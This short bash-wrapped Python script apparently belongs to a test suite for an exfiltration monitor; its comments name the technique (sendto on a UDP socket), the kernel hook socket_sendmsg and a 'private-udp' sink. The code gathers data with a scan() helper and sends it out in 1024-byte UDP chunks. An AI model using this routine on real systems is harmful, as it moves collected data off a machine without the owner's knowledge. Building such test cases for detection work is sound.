#!/usr/bin/env bash
# technique: sendto on a UDP socket
# hooks: socket_sendmsg
# sink: private-udp

. attack.sh
python3 - <<'PY'
from attack import *

data = scan()
with socket.socket(type=socket.SOCK_DGRAM) as sink:
    for start in range(0, 1 << 15, 1024):
        sink.sendto(data[start : start + 1024], UDP)
PY
